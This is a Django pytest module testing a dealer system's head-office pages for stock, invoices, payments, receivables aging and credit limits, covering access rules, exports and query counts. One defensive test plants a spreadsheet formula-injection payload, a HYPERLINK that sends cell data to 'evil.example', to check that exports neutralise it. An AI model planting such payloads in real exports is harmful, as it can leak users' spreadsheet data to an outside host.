"""The head-office catalogue, stock, invoice, payment, aging and credit pages, as finance and warehouse see them."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dms.accounts.services import user_update
from orders import services
from orders.models import CreditAccount, Invoice, Payment, StockLevel
from tests.factories import DealerFactory, UserFactory, png_bytes, region
from tests.factories.orders import authorize, credit, grant, price_list, stock
from tests.orders.test_reports import LONG_AGO, issue_invoice, on_day
from tests.platform.field_errors import field_errors, field_value
from tests.platform.query_budget import assert_flat_query_count

pytestmark = pytest.mark.django_db

PAGES = [
    "/hq/products/",
    "/hq/stock/",
    "/hq/stock/import/",
    "/hq/invoices/",
    "/hq/payments/",
    "/hq/payments/new/",
    "/hq/payments/import/",
    "/hq/aging/",
]


@pytest.fixture
def en_client():
    """A browser that asks for English, signed in as ``user``."""

    def make(user):
        client = Client(HTTP_ACCEPT_LANGUAGE="en")
        client.force_login(user)
        return client

    return make


@pytest.fixture
def finance(db):
    user = UserFactory(username="finance", role="hq_staff", sees_all_without_regions=True)
    grant(user, "record_payment", "change_credit_limit")
    return user


@pytest.fixture
def storekeeper(db):
    user = UserFactory(username="store", role="hq_staff", sees_all_without_regions=True)
    grant(user, "adjust_stock")
    return user


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


def text(response) -> str:
    return response.content.decode()


# Access -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", PAGES)
def test_dealer_users_get_403_on_every_page(shop, dealer_admin, dealer_staff, path, client_as):
    assert client_as(dealer_admin).get(path).status_code == 403
    assert client_as(dealer_staff).get(path).status_code == 403


def test_an_invoice_or_credit_page_outside_the_territory_is_not_found(shop, dealer_one, hq_admin, sales_rep, client_as):
    invoice = issue_invoice(dealer_one, shop.kettle, 1, actor=hq_admin)
    client = client_as(sales_rep)
    assert client.get(f"/hq/invoices/{invoice.pk}/").status_code == 404
    assert client.get(f"/hq/credit/{dealer_one.pk}/").status_code == 404
    assert client.post(f"/hq/credit/{dealer_one.pk}/limit/", {"credit_limit": "1", "reason": "x"}).status_code == 404
    assert client.get("/hq/invoices/").context["invoices"].count() == 0


# Catalogue -------------------------------------------------------------------------------------


def test_product_list_filters_and_shows_availability(shop, hq_staff, en_client):
    response = en_client(hq_staff).get("/hq/products/", {"product_line": "kitchen"})
    products = list(response.context["products"])
    assert [p.sku for p in products] == ["K-100", "K-200"]
    assert [p.available for p in products] == [150, 150]
    assert "¥1,000.00" in text(response) and "13%" in text(response)


def test_catalogue_managers_get_links_to_admin(shop, hq_admin, hq_staff, en_client):
    assert 'data-testid="admin-add"' in text(en_client(hq_admin).get("/hq/products/"))
    assert 'data-testid="admin-add"' not in text(en_client(hq_staff).get("/hq/products/"))
    assert 'data-testid="admin-edit"' in text(en_client(hq_admin).get(f"/hq/products/{shop.kettle.pk}/"))


def test_product_page_shows_stock_per_warehouse_and_current_prices(
    shop, dealer_one, dealer_two, hq_staff, sales_rep, en_client
):
    stock(shop.kettle, shop.spare, 50, reserved=20)
    price_list(items={shop.kettle: "92.00"}, tier="B")
    price_list(items={shop.kettle: "88.00"}, dealer=dealer_one)
    price_list(
        items={shop.kettle: "70.00"},
        tier="A",
        valid_until=datetime.date.today() - datetime.timedelta(days=1),
        valid_from=datetime.date.today() - datetime.timedelta(days=30),
    )
    response = en_client(hq_staff).get(f"/hq/products/{shop.kettle.pk}/")
    assert [(lvl.warehouse.code, lvl.available_qty) for lvl in response.context["stock"]] == [("HZ", 100), ("SH", 30)]
    assert sorted(item.price for item in response.context["prices"]) == [Decimal("88.00"), Decimal("92.00")]
    assert "Tier B" in text(response) and dealer_one.name in text(response)
    # A rep without territory sees the tier's price but no dealer's.
    prices = en_client(sales_rep).get(f"/hq/products/{shop.kettle.pk}/").context["prices"]
    assert [item.price for item in prices] == [Decimal("92.00")]


def test_the_product_image_is_served_only_to_who_may_see_the_product(
    shop, hq_staff, dealer_admin, other_dealer_admin, client_as
):
    shop.kettle.image.save("kettle.png", ContentFile(png_bytes()), save=True)
    response = client_as(hq_staff).get(f"/hq/products/{shop.kettle.pk}/image/")
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == png_bytes()
    assert client_as(dealer_admin).get(f"/hq/products/{shop.kettle.pk}/image/").status_code == 200
    assert client_as(other_dealer_admin).get(f"/hq/products/{shop.kettle.pk}/image/").status_code == 404
    assert Client().get(f"/hq/products/{shop.kettle.pk}/image/").status_code == 302
    assert client_as(hq_staff).get(f"/hq/products/{shop.oven.pk}/image/").status_code == 404
    assert 'data-testid="product-image"' in text(client_as(hq_staff).get(f"/hq/products/{shop.kettle.pk}/"))


# Stock -----------------------------------------------------------------------------------------


def test_stock_page_highlights_low_stock_and_lists_movements(shop, storekeeper, en_client):
    stock(shop.washer, shop.spare, 12, reserved=4)
    services.stock_adjust(actor=storekeeper, warehouse=shop.main, product=shop.oven, delta=-95, reason="破损")
    response = en_client(storekeeper).get("/hq/stock/", {"warehouse": "SH"})
    body = text(response)
    assert [lvl.product.sku for lvl in response.context["levels"]] == ["K-100", "K-200", "L-100"]
    assert body.count('data-low="1"') == 1  # L-100 in SH: 8 available
    assert "破损" in body and 'data-testid="adjust-form"' in body
    low = en_client(storekeeper).get("/hq/stock/", {"low": "5"})
    assert [(lvl.warehouse.code, lvl.product.sku) for lvl in low.context["levels"]] == [("HZ", "K-200")]
    assert low.context["low_at"] == 5


def test_stock_page_filters_by_sku_and_by_product_id(shop, storekeeper, en_client):
    client = en_client(storekeeper)
    by_sku = client.get("/hq/stock/", {"sku": "k-"})
    assert sorted({lvl.product.sku for lvl in by_sku.context["levels"]}) == ["K-100", "K-200"]
    assert 'name="sku" value="k-"' in text(by_sku)
    by_id = client.get("/hq/stock/", {"product": shop.oven.pk})
    assert {lvl.product.sku for lvl in by_id.context["levels"]} == {"K-200"}
    # The product picker names the chosen product by its id until the browser asks for its name.
    assert f'<option value="{shop.oven.pk}" selected>' in text(by_id)
    detail = text(client.get(f"/hq/products/{shop.kettle.pk}/"))
    assert "/hq/stock/?sku=K-100" in detail


def test_a_warehouse_user_adjusts_stock(shop, storekeeper, en_client):
    response = en_client(storekeeper).post(
        "/hq/stock/adjust/", {"warehouse": shop.main.pk, "sku": "k-100", "delta": "-30", "reason": "盘亏"}, follow=True
    )
    assert response.redirect_chain[-1][0] == "/hq/stock/?sku=K-100"
    assert messages_of(response) == ["K-100 in HZ: 70 on hand, 70 available."]
    assert StockLevel.objects.get(warehouse=shop.main, product=shop.kettle).on_hand == 70


def test_removing_reserved_stock_is_refused_with_the_reason(shop, storekeeper, en_client):
    stock(shop.kettle, shop.main, 100, reserved=90)
    response = en_client(storekeeper).post(
        "/hq/stock/adjust/", {"warehouse": shop.main.pk, "sku": "K-100", "delta": "-20", "reason": "破损"}
    )
    page = text(response)
    assert response.status_code == 422 and messages_of(response) == []
    assert field_errors(page, "id_delta") == ["Only 10 units are free to remove; the rest is reserved for orders."]
    assert (field_value(page, "id_sku"), field_value(page, "id_delta"), field_value(page, "id_reason")) == (
        "K-100",
        "-20",
        "破损",
    )
    assert StockLevel.objects.get(warehouse=shop.main, product=shop.kettle).on_hand == 100


def test_staff_without_the_stock_permission_are_told_so(shop, hq_staff, en_client):
    assert en_client(hq_staff).get("/hq/stock/").status_code == 403
    grant(hq_staff, "ship_order")
    client = en_client(hq_staff)
    page = text(client.get("/hq/stock/"))
    assert 'data-testid="adjust-refused"' in page and 'data-testid="adjust-form"' not in page
    response = client.post(
        "/hq/stock/adjust/", {"warehouse": shop.main.pk, "sku": "K-100", "delta": "5", "reason": "x"}, follow=True
    )
    assert messages_of(response) == ["You do not have permission to do this."]
    assert StockLevel.objects.get(warehouse=shop.main, product=shop.kettle).on_hand == 100


def test_an_unknown_sku_is_an_error_beside_it(shop, storekeeper, en_client):
    response = en_client(storekeeper).post(
        "/hq/stock/adjust/", {"warehouse": shop.main.pk, "sku": "NOPE", "delta": "5", "reason": "x"}
    )
    assert response.status_code == 422 and messages_of(response) == []
    assert field_errors(text(response), "id_sku") == ["No product has the SKU “NOPE”."]


# Invoices --------------------------------------------------------------------------------------


@pytest.fixture
def overdue(shop, dealer_one, hq_admin):
    """Dealer 1 with an invoice 10 days overdue and a newer one not yet due."""
    authorize(dealer_one, shop.line, valid_from=LONG_AGO)
    today = datetime.date.today()
    old = issue_invoice(dealer_one, shop.kettle, 2, actor=hq_admin, on=today - datetime.timedelta(days=40))
    new = issue_invoice(dealer_one, shop.kettle, 3, actor=hq_admin)
    return old, new


def test_invoice_list_marks_overdue_invoices_with_their_days(overdue, finance, en_client):
    old, _new = overdue
    client = en_client(finance)
    body = text(client.get("/hq/invoices/"))
    assert "10 days overdue" in body and "Not yet due" not in body  # the list shows the short form
    assert body.count('class="table-danger"') == 1
    only_overdue = client.get("/hq/invoices/", {"overdue": "true"}).context["invoices"]
    assert list(only_overdue) == [old]


def test_invoice_exports_carry_the_filtered_list(overdue, dealer_one, finance, en_client):
    _old, new = overdue
    client = en_client(finance)
    response = client.get("/hq/invoices/", {"overdue": "false", "export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Invoice number", "Order number"]
    assert [row[0] for row in rows[1:]] == [new.number]
    response = client.get("/hq/invoices/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 3
    assert {sheet.cell(row=r, column=13).value for r in (2, 3)} == {0, 10}


def test_invoice_page_shows_amounts_allocations_and_the_order(overdue, dealer_one, finance, en_client):
    old, _new = overdue
    services.payment_record(
        actor=finance, dealer=dealer_one, amount=Decimal("150.00"), received_on=datetime.date.today(), reference="BK-7"
    )
    response = en_client(finance).get(f"/hq/invoices/{old.pk}/")
    body = text(response)
    assert [(a.payment.reference, a.amount) for a in response.context["allocations"]] == [("BK-7", Decimal("150.00"))]
    assert "¥50.00" in body and "10 days overdue" in body
    assert f'href="/hq/orders/{old.order_id}/"' in body


def test_invoice_list_costs_the_same_queries_for_3_or_30_invoices(shop, dealer_one, hq_admin, client_as):
    stock(shop.kettle, shop.main, 1000)

    def add_rows(n):
        for _ in range(n):
            issue_invoice(dealer_one, shop.kettle, 1, actor=hq_admin)

    assert_flat_query_count(client_as(hq_admin), "/hq/invoices/", add_rows)


# Payments --------------------------------------------------------------------------------------


def test_finance_records_a_payment_and_sees_which_invoices_it_paid(overdue, dealer_one, finance, en_client):
    old, new = overdue
    client = en_client(finance)
    response = client.post(
        "/hq/payments/new/",
        {
            "dealer": dealer_one.pk,
            "amount": "550.00",
            "received_on": datetime.date.today().isoformat(),
            "reference": "BK-1001",
            "method": "bank_transfer",
        },
        follow=True,
    )
    payment = Payment.objects.get(reference="BK-1001")
    assert response.redirect_chain[-1][0] == f"/hq/payments/new/?recorded={payment.pk}"
    body = text(response)
    assert 'data-testid="payment-recorded"' in body
    assert old.number in body and new.number in body
    assert "¥50.00 stays unallocated" in body
    old.refresh_from_db()
    assert old.status == Invoice.Status.PAID


def test_a_reference_already_recorded_is_shown_on_the_form(shop, dealer_one, finance, en_client):
    services.payment_record(
        actor=finance, dealer=dealer_one, amount=Decimal("1"), received_on=datetime.date.today(), reference="BK-1"
    )
    data = {"dealer": dealer_one.pk, "amount": "5", "received_on": datetime.date.today().isoformat()}
    response = en_client(finance).post("/hq/payments/new/", {**data, "reference": "BK-1", "method": "cash"})
    assert response.status_code == 200
    assert response.context["form"].errors["reference"] == [
        "A payment with this reference is already recorded for this dealer."
    ]
    assert Payment.objects.count() == 1


def test_staff_without_the_payment_permission_are_refused(shop, dealer_one, hq_staff, en_client):
    client = en_client(hq_staff)
    assert 'data-testid="payment-refused"' in text(client.get("/hq/payments/new/"))
    assert 'data-testid="payment-new"' not in text(client.get("/hq/payments/"))
    response = client.post(
        "/hq/payments/new/",
        {
            "dealer": dealer_one.pk,
            "amount": "5",
            "received_on": datetime.date.today().isoformat(),
            "reference": "BK-2",
            "method": "cash",
        },
    )
    assert "You do not have permission to do this." in text(response)
    assert not Payment.objects.exists()


def test_payment_list_filters_exports_and_shows_invoices_paid(overdue, dealer_one, dealer_two, hq_admin, en_client):
    old, _new = overdue
    services.payment_record(
        actor=hq_admin, dealer=dealer_one, amount=Decimal("200.00"), received_on=datetime.date.today(), reference="A1"
    )
    services.payment_record(
        actor=hq_admin, dealer=dealer_two, amount=Decimal("9.00"), received_on=datetime.date.today(), reference="B1"
    )
    client = en_client(hq_admin)
    response = client.get("/hq/payments/", {"dealer": dealer_one.pk})
    assert [p.reference for p in response.context["payments"]] == ["A1"]
    assert old.number in text(response)
    # The dealer filter is a type-ahead: the page names only the chosen dealer.
    assert f'<option value="{dealer_one.pk}" selected>D00001 {dealer_one.name}</option>' in text(response)
    assert f'<option value="{dealer_two.pk}"' not in text(response)
    response = client.get("/hq/payments/", {"unallocated": "true", "export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[3] for row in rows[1:]] == ["B1"]


# Aging -----------------------------------------------------------------------------------------


def test_aging_page_shows_buckets_dso_formula_and_exports(overdue, finance, en_client):
    client = en_client(finance)
    response = client.get("/hq/aging/")
    body = text(response)
    report = response.context["report"]
    assert report.total.buckets["current"] == Decimal("300.00")
    assert report.total.buckets["days_1_30"] == Decimal("200.00")
    assert "DSO (days sales outstanding) = receivables ÷ credit sales of the last 90 days × 90" in body
    assert 'id="aging-chart"' in body and 'id="aging-data"' in body
    assert response.context["chart"]["labels"] == ["Zhejiang"]
    response = client.get("/hq/aging/", {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["By dealer", "By region", "Notes"]
    dealer_sheet = workbook["By dealer"]
    assert [c.value for c in dealer_sheet[1]][:5] == ["Dealer code", "Dealer", "Province", "Not yet due", "1–30 days"]
    assert dealer_sheet.cell(row=2, column=4).value == 300
    assert dealer_sheet.cell(row=3, column=2).value == "Total"


def test_aging_filters_take_a_date_and_refuse_the_future(overdue, finance, en_client):
    old, _new = overdue
    client = en_client(finance)
    as_of = old.due_on - datetime.timedelta(days=1)
    report = client.get("/hq/aging/", {"as_of": as_of.isoformat()}).context["report"]
    assert report.as_of == as_of and report.total.overdue == 0 and report.total.total == Decimal("200.00")
    future = datetime.date.today() + datetime.timedelta(days=1)
    response = client.get("/hq/aging/", {"as_of": future.isoformat()})
    assert response.context["report"].as_of == datetime.date.today()
    assert "The report date cannot be in the future." in text(response)
    assert len(client.get("/hq/aging/", {"region": "440000"}).context["report"].dealers) == 0


def test_a_rep_sees_the_aging_of_their_dealers_only(shop, dealer_one, hq_admin, sales_rep, en_client):
    gz = DealerFactory(code="GZ1", region=region("440100"))
    authorize(gz, shop.line)
    credit(gz, "100000.00", warehouse=shop.main)
    issue_invoice(dealer_one, shop.kettle, 1, actor=hq_admin)
    issue_invoice(gz, shop.kettle, 2, actor=hq_admin)
    user_update(actor=hq_admin, user=sales_rep, regions=[region("440000")])
    report = en_client(sales_rep).get("/hq/aging/").context["report"]
    assert [line.code for line in report.dealers] == ["GZ1"]


def test_aging_page_costs_the_same_queries_for_3_or_30_dealers(shop, hq_admin, client_as, settings):
    # Without a cache, so that each request computes the report it shows.
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.dummy.DummyCache"}}
    stock(shop.kettle, shop.main, 1000)
    cities = ["330100", "440100", "320500", "510100", "330200"]
    made = []

    def add_rows(n):
        for _ in range(n):
            dealer = DealerFactory(region=region(cities[len(made) % len(cities)]))
            authorize(dealer, shop.line)
            credit(dealer, "100000.00", warehouse=shop.main)
            issue_invoice(dealer, shop.kettle, 1, actor=hq_admin)
            made.append(dealer)

    assert_flat_query_count(client_as(hq_admin), "/hq/aging/", add_rows)


def test_aging_page_is_computed_once_a_minute_and_says_so(overdue, dealer_one, finance, en_client):
    client = en_client(finance)
    first = client.get("/hq/aging/")
    assert "Figures refresh every minute." in text(first)
    services.payment_record(
        actor=finance,
        dealer=dealer_one,
        amount=Decimal("100.00"),
        received_on=datetime.date.today(),
        reference="P-CACHED",
    )
    with CaptureQueriesContext(connection) as queries:
        again = client.get("/hq/aging/")
    assert not [query for query in queries.captured_queries if "orders_invoice" in query["sql"]]
    assert again.context["report"].total.total == first.context["report"].total.total == Decimal("500.00")


def test_aging_page_lists_the_dealers_a_page_at_a_time_and_exports_them_all(shop, hq_admin, en_client):
    stock(shop.kettle, shop.main, 1000)
    for n in range(27):
        dealer = DealerFactory(code=f"AG{n:02d}", region=region("330100"))
        authorize(dealer, shop.line)
        credit(dealer, "100000.00", warehouse=shop.main)
        issue_invoice(dealer, shop.kettle, 1, actor=hq_admin)
    client = en_client(hq_admin)
    first = client.get("/hq/aging/")
    assert len(first.context["dealers"]) == 25 and len(first.context["report"].dealers) == 27
    assert "1–25 of 27" in text(first)
    second = client.get("/hq/aging/", {"page": 2})
    assert [line.code for line in second.context["dealers"]] == ["AG25", "AG26"]
    assert len(client.get("/hq/aging/", {"per_page": 50}).context["dealers"]) == 27
    workbook = load_workbook(io.BytesIO(client.get("/hq/aging/", {"page": 2, "export": "xlsx"}).content))
    assert workbook["By dealer"].max_row == 1 + 27 + 1


# Credit ----------------------------------------------------------------------------------------


def test_credit_page_shows_the_position_and_what_makes_it(shop, overdue, dealer_one, hq_admin, finance, en_client):
    old, new = overdue
    order = services.order_create(actor=hq_admin, dealer=dealer_one, lines=[{"product": shop.kettle, "quantity": 1}])
    services.order_submit(actor=hq_admin, order=order)
    response = en_client(finance).get(f"/hq/credit/{dealer_one.pk}/")
    position = response.context["position"]
    assert position.open_invoices == Decimal("500.00") and position.open_orders == Decimal("100.00")
    assert position.available == Decimal("99400.00") and position.oldest_overdue_days == 10
    assert [i.number for i in response.context["open_invoices"]] == [old.number, new.number]
    assert [o.number for o in response.context["recent_orders"]] == [order.number]
    body = text(response)
    assert "¥99,400.00" in body and 'data-testid="credit-limit-form"' in body and "warehouse-form" not in body


def test_finance_sets_the_credit_limit_with_a_reason(shop, dealer_one, finance, en_client):
    client = en_client(finance)
    response = client.post(
        f"/hq/credit/{dealer_one.pk}/limit/", {"credit_limit": "250000", "reason": "年度复核"}, follow=True
    )
    assert messages_of(response) == ["Credit limit saved."]
    assert CreditAccount.objects.get(dealer=dealer_one).credit_limit == Decimal("250000.00")
    response = client.post(f"/hq/credit/{dealer_one.pk}/limit/", {"credit_limit": "-5", "reason": ""})
    page = text(response)
    assert response.status_code == 422 and messages_of(response) == []
    # Both errors at once, each beside its own field, and the amount typed is still there.
    assert field_errors(page, "id_credit_limit") == ["Ensure this value is greater than or equal to 0."]
    assert field_errors(page, "id_reason") == ["This field is required."]
    assert field_value(page, "id_credit_limit") == "-5"
    assert CreditAccount.objects.get(dealer=dealer_one).credit_limit == Decimal("250000.00")


def test_credit_changes_without_the_permission_are_refused_with_a_message(shop, dealer_one, storekeeper, en_client):
    client = en_client(storekeeper)
    page = text(client.get(f"/hq/credit/{dealer_one.pk}/"))
    assert "credit-limit-form" not in page and "Changing the credit limit needs" in page
    response = client.post(f"/hq/credit/{dealer_one.pk}/limit/", {"credit_limit": "1", "reason": "x"}, follow=True)
    assert messages_of(response) == ["You do not have permission to do this."]
    response = client.post(f"/hq/credit/{dealer_one.pk}/warehouse/", {"warehouse": shop.spare.pk}, follow=True)
    assert messages_of(response) == ["You do not have permission to do this."]
    account = CreditAccount.objects.get(dealer=dealer_one)
    assert account.credit_limit == Decimal("100000.00") and account.default_warehouse == shop.main


def test_catalogue_managers_set_the_default_warehouse(shop, dealer_one, hq_staff, en_client):
    grant(hq_staff, "manage_catalogue")
    client = en_client(hq_staff)
    response = client.post(f"/hq/credit/{dealer_one.pk}/warehouse/", {"warehouse": shop.spare.pk}, follow=True)
    assert messages_of(response) == ["Default warehouse saved."]
    assert CreditAccount.objects.get(dealer=dealer_one).default_warehouse == shop.spare
    client.post(f"/hq/credit/{dealer_one.pk}/warehouse/", {"warehouse": ""})
    assert CreditAccount.objects.get(dealer=dealer_one).default_warehouse is None
    assert "None: orders follow the warehouses" in text(client.get(f"/hq/credit/{dealer_one.pk}/"))


def test_a_partly_paid_history_reads_right_on_a_past_date(shop, dealer_one, hq_admin, finance, en_client):
    authorize(dealer_one, shop.line, valid_from=LONG_AGO)
    today = datetime.date.today()
    issue_invoice(dealer_one, shop.kettle, 4, actor=hq_admin, on=today - datetime.timedelta(days=70))
    with on_day(today - datetime.timedelta(days=30)):
        services.payment_record(
            actor=finance,
            dealer=dealer_one,
            amount=Decimal("100.00"),
            received_on=today - datetime.timedelta(days=30),
            reference="P-1",
        )
    report = en_client(finance).get("/hq/aging/").context["report"]
    assert report.total.buckets["days_31_60"] == Decimal("300.00")
    past = en_client(finance).get("/hq/aging/", {"as_of": (today - datetime.timedelta(days=31)).isoformat()})
    assert past.context["report"].total.buckets["days_1_30"] == Decimal("400.00")


def test_text_that_would_run_as_a_formula_is_exported_as_text(shop, dealer_one, finance, en_client):
    services.payment_record(
        actor=finance,
        dealer=dealer_one,
        amount="10",
        received_on=datetime.date.today(),
        reference="BANK-9",
        note='=HYPERLINK("http://evil.example/?"&A1,"x")',
    )
    response = en_client(finance).get("/hq/payments/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    notes = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.data_type, cell.value[0]) for cell in notes] == [("s", "'")]


def test_an_aging_date_before_any_business_is_a_message(shop, finance, en_client):
    response = en_client(finance).get("/hq/aging/?as_of=0001-01-01")
    assert response.status_code == 200
    assert "cannot be before 2000-01-01" in text(response)
